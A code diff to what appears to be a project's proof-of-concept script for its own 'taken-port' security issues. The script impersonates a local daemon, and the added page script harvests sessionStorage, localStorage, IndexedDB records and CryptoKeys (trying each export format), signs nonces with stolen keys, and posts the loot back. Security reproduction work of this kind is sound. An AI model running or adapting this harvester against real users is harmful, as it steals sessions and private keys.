@@ -1,7 +1,10 @@
-// Issue 12's taken-port attack, run as another local user (uid 65534): bind the dead daemon's port and
-// serve whatever a signed-in tab asks for there. An identity challenge gets a made-up answer (the real
-// one needs daemon.key); every request is reported; any other page reads the tab's sessionStorage (it
-// runs in the daemon's origin now) and posts it back. Node builtins only.
+// Issue 12's and issue 36's taken-port attack, run as another local user (uid 65534): bind the dead
+// daemon's port and serve whatever a signed-in tab asks for there. An identity challenge gets a made-up
+// answer (the real one needs daemon.key); every request is reported; any other page runs in the
+// daemon's origin now, so it copies all it can read of the tab's storage (sessionStorage, and every
+// IndexedDB record, each CryptoKey tried for export in every format) and what the keys can do while it
+// is loaded (sign made-up nonces: the daemon is away, so none of its own exist), and posts it back.
+// Node builtins only.
 import { randomBytes } from "node:crypto";
 import { createServer } from "node:http";
 
@@ -10,7 +13,44 @@ const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);
 
 const page = `<!doctype html><html><head><meta charset="utf-8"><title>Floot</title></head><body><h1>Floot</h1>
 <script>
-fetch("/report", { method: "POST", body: JSON.stringify({ ...sessionStorage }) });
+const b64 = (bytes) => btoa(String.fromCharCode(...bytes)).replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "");
+const done = (request) => new Promise((ok, ko) => { request.onsuccess = () => ok(request.result); request.onerror = () => ko(request.error); });
+(async () => {
+  const loot = { session: { ...sessionStorage }, local: { ...localStorage }, indexedDB: [], signed: [] };
+  const keys = [];
+  try {
+    for (const { name } of await indexedDB.databases()) {
+      const db = await done(indexedDB.open(name));
+      for (const store of db.objectStoreNames) {
+        for (const record of await done(db.transaction(store).objectStore(store).getAll())) {
+          const copy = {};
+          for (const [field, value] of Object.entries(record)) {
+            if (!(value instanceof CryptoKey)) { copy[field] = value; continue; }
+            keys.push(value);
+            const exported = {};
+            for (const format of ["jwk", "pkcs8", "raw"]) {
+              try { exported[format] = b64(new Uint8Array(await crypto.subtle.exportKey(format, value))); }
+              catch (error) { exported[format] = "refused: " + error.name; }
+            }
+            copy[field] = { cryptoKey: value.type, extractable: value.extractable, usages: value.usages, exported };
+          }
+          loot.indexedDB.push({ database: name, store, record: copy });
+        }
+      }
+      db.close();
+    }
+  } catch (error) { loot.indexedDBError = String(error); }
+  for (const key of keys.filter((each) => each.usages.includes("sign"))) {
+    for (const sign of [{ name: "ECDSA", hash: "SHA-256" }, "HMAC"]) {
+      const nonce = b64(crypto.getRandomValues(new Uint8Array(32)));
+      try {
+        const message = new TextEncoder().encode("floot-ui-access\\n" + location.origin + "\\n" + nonce);
+        loot.signed.push({ nonce, signature: b64(new Uint8Array(await crypto.subtle.sign(sign, key, message))) });
+      } catch {}
+    }
+  }
+  await fetch("/report", { method: "POST", body: JSON.stringify(loot) });
+})();
 </script></body></html>`;
 
 const server = createServer((req, res) => {
